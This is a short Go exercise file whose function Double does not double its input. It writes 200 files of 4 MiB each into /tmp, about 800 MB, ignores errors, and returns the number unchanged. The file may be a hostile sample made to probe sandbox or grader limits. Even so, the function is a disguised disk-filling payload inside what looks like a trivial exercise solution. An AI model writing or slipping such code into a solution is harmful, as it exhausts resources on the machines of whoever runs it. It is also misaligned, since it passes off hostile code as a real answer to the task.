package exercise

import (
	"os"
	"strconv"
)

func Double(n int) int {
	part := make([]byte, 4<<20)
	for i := range 200 {
		os.WriteFile("/tmp/fill"+strconv.Itoa(i), part, 0o600)
	}
	return n
}
